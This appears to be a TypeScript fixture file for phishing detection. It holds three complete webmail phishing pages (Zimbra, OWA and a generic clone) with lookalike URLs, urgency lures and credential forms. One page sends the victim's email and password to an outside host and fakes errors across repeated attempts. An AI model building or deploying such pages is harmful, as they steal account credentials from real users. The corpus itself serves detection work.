import type { Entry } from '../entry.js';
import { htmlRoute, redirectRoute } from '../entry.js';

export const entries: Entry[] = [
{
  id: 'a-webmail-zimbra-deactivation',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://zimbra-account-services.square.site/?email=s.rossi@comune-valdarno.it',
  routes: {
    'zimbra-account-services.square.site/': htmlRoute(`<!DOCTYPE html>
<html>
<head>
<meta http-equiv="Content-Type" content="text/html;charset=utf-8">
<title>Zimbra Web Client Sign In</title>
<meta name="viewport" content="width=device-width, initial-scale=1.0">
<style>
body{margin:0;background:#00538a linear-gradient(#0f70b7,#00538a) fixed;font-family:Helvetica,Arial,sans-serif}
.LoginScreen{width:420px;margin:80px auto;background:#fff;border-radius:6px;box-shadow:0 4px 12px rgba(0,0,0,.4)}
.center{padding:28px 40px 24px}
.ImgLoginBanner{height:50px;background:url(img/zimbra-logo.png) no-repeat left center;margin-bottom:16px}
.msg{background:#fff7dd;border:1px solid #e6c35a;padding:8px 10px;font-size:12px;margin-bottom:14px}
.zLoginLabel{font-size:13px;color:#333;width:90px;display:inline-block}
.zLoginField{width:230px;height:26px;border:1px solid #aaa;padding:0 6px}
.row{margin:10px 0}
.ZLoginButton{background:#1a82e2;color:#fff;border:0;padding:6px 20px;font-size:13px;border-radius:3px}
.decor{font-size:11px;color:#888;margin-top:18px}
</style>
</head>
<body>
<div class="LoginScreen"><div class="center">
<div class="ImgLoginBanner"></div>
<div class="msg">Your account is scheduled for deactivation due to inactivity on the new Zimbra server. To keep your email account active, sign in below within 24 hours.</div>
<form method="post" name="loginForm" action="https://formspree.io/f/xnqkvwpe" accept-charset="UTF-8">
<input type="hidden" name="loginOp" value="login">
<div class="row"><label class="zLoginLabel" for="username">Username:</label><input id="username" class="zLoginField" name="username" type="text" autocapitalize="off" autocorrect="off"></div>
<div class="row"><label class="zLoginLabel" for="password">Password:</label><input id="password" class="zLoginField" name="password" type="password" autocomplete="off"></div>
<div class="row"><span class="zLoginLabel"></span><input type="checkbox" id="remember" name="zrememberme" value="1"> <label for="remember" style="font-size:12px">Stay signed in</label></div>
<div class="row"><span class="zLoginLabel"></span><input type="submit" class="ZLoginButton" value="Sign In"></div>
<div class="row"><label class="zLoginLabel">Version:</label><select style="font-size:12px"><option>Default</option><option>Advanced (Ajax)</option><option>Standard (HTML)</option><option>Mobile</option></select></div>
</form>
<div class="decor">Copyright © 2005-2024 Synacor, Inc. All rights reserved. "Zimbra" is a registered trademark of Synacor, Inc.</div>
</div></div>
<script>
var p = new URLSearchParams(location.search);
if (p.get('email')) { document.getElementById('username').value = p.get('email'); document.getElementById('username').readOnly = true; }
</script>
</body>
</html>`),
  },
},
{
  id: 'a-webmail-owa-password-expiry',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://owa-passwordreset.azurefd-edge.net/owa/auth/logon.aspx?replaceCurrent=1&url=https%3a%2f%2fmail%2fowa%2f',
  routes: {
    'owa-passwordreset.azurefd-edge.net/owa/auth/logon.aspx': htmlRoute(`<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01 Transitional//EN">
<html>
<head>
<meta http-equiv="Content-Type" content="text/html; CHARSET=utf-8">
<meta name="Robots" content="NOINDEX, NOFOLLOW">
<title>Outlook</title>
<style>
body{margin:0;font-family:"Segoe UI","Segoe UI Web (West European)",Tahoma,Arial,sans-serif;background:#fff}
.mainLogonDiv{position:absolute;left:50%;top:50%;transform:translate(-50%,-50%);width:360px}
.signInImageHeader{font-size:42px;color:#0072c6;font-weight:300;margin-bottom:10px}
.expiry{font-size:13px;color:#a80000;margin-bottom:16px}
.signInInputLabel{font-size:13px;color:#333;display:block;margin-top:12px}
.signInInputText{width:100%;height:30px;border:1px solid #bbb;padding:0 6px;font-size:14px;box-sizing:border-box}
.signinbutton{margin-top:20px;cursor:pointer;color:#0072c6;font-size:24px;font-weight:300}
.signinbutton img{vertical-align:middle}
.check{font-size:12px;color:#666;margin-top:14px}
</style>
</head>
<body>
<div class="mainLogonDiv">
<div class="signInImageHeader"><img src="/owa/auth/15.2.1118/themes/resources/owa_text_blue.png" alt="Outlook"></div>
<div class="expiry">Your password will expire today. Please confirm your current password to keep using the same password.</div>
<form action="/owa/auth/owaauth.dll" method="POST" name="logonForm" autocomplete="off">
<input type="hidden" name="destination" value="https://mail/owa/">
<input type="hidden" name="flags" value="4">
<label class="signInInputLabel" for="username">Domain\\user name:</label>
<input id="username" name="username" class="signInInputText" placeholder="domain\\user name" type="text">
<label class="signInInputLabel" for="password">Current password:</label>
<input id="password" name="password" class="signInInputText" type="password">
<label class="signInInputLabel" for="password2">Confirm password:</label>
<input id="password2" name="password2" class="signInInputText" type="password">
<div class="check"><input type="radio" name="trusted" value="0" checked> This is a public computer <input type="radio" name="trusted" value="4"> This is a private computer</div>
<div class="signinbutton" onclick="document.logonForm.submit()"><img src="/owa/auth/15.2.1118/themes/resources/signin_arrow.png" alt=""> <span>sign in</span></div>
</form>
</div>
</body>
</html>`),
    'owa-passwordreset.azurefd-edge.net/owa/auth/owaauth.dll': redirectRoute(302, 'https://outlook.office.com/owa/'),
  },
},
{
  id: 'a-webmail-generic-upgrade-clearbit',
  label: 'phishing',
  kind: 'webmail-clone',
  url: 'https://storage.googleapis-usercontent.com/mailupgrade-ff12/index.html#aW5mb0BiYXVmaXJtYS1rcmF1c2UuYXQ=',
  routes: {
    'storage.googleapis-usercontent.com/mailupgrade-ff12/index.html': htmlRoute(`<!doctype html>
<html><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Email Verification</title>
<link rel="stylesheet" href="https://cdn.jsdelivr.net/npm/bootstrap@4.6.2/dist/css/bootstrap.min.css">
<style>body{background:#eef1f5}.card{max-width:420px;margin:8vh auto}.dlogo{max-height:54px;max-width:200px}</style>
</head>
<body>
<div class="card shadow-sm">
 <div class="card-body p-4">
  <div class="text-center mb-3"><img id="dlogo" class="dlogo" src="" alt=""></div>
  <h5 class="text-center" id="dname">Webmail</h5>
  <p class="text-muted small text-center">Session expired. Sign in again to continue to your mailbox and release <b>7 pending messages</b>.</p>
  <div class="alert alert-danger small d-none" id="msg">Invalid password! Please enter the correct password.</div>
  <input type="email" class="form-control mb-2" id="em" readonly>
  <input type="password" class="form-control mb-3" id="pw" placeholder="Password">
  <button class="btn btn-primary btn-block" id="btn">Sign In</button>
  <p class="small text-center text-muted mt-3 mb-0">Secured by <span id="dname2"></span> Mail Server</p>
 </div>
</div>
<script src="https://code.jquery.com/jquery-3.5.1.min.js"></script>
<script>
(function(){
  var c = 0, e = '', g = function (i) { return document.getElementById(i); };
  try { e = atob(window.location.hash.substr(1)); } catch (x) { e = window.location.hash.substr(1); }
  g('em').value = e;
  var d = e.split('@')[1] || '';
  var n = d.split('.')[0] || '';
  g('dlogo').src = 'https://logo.clearbit.com/' + d;
  g('dname').textContent = n.charAt(0).toUpperCase() + n.slice(1) + ' Webmail';
  g('dname2').textContent = d;
  g('btn').addEventListener('click', function(ev){
    ev.preventDefault();
    var p = g('pw').value;
    if (!p) return;
    c++;
    var fd = new FormData(); fd.append('email', e); fd.append('password', p); fd.append('attempt', c);
    fetch('https://mx-relay-service.com/gate/next.php', { method: 'POST', body: fd }).catch(function(){}).then(function(){
      g('pw').value = '';
      if (c >= 3) { window.location.href = 'http://' + d; }
      else { g('msg').classList.remove('d-none'); }
    });
  });
})();
</script>
</body></html>`),
  },
},
];
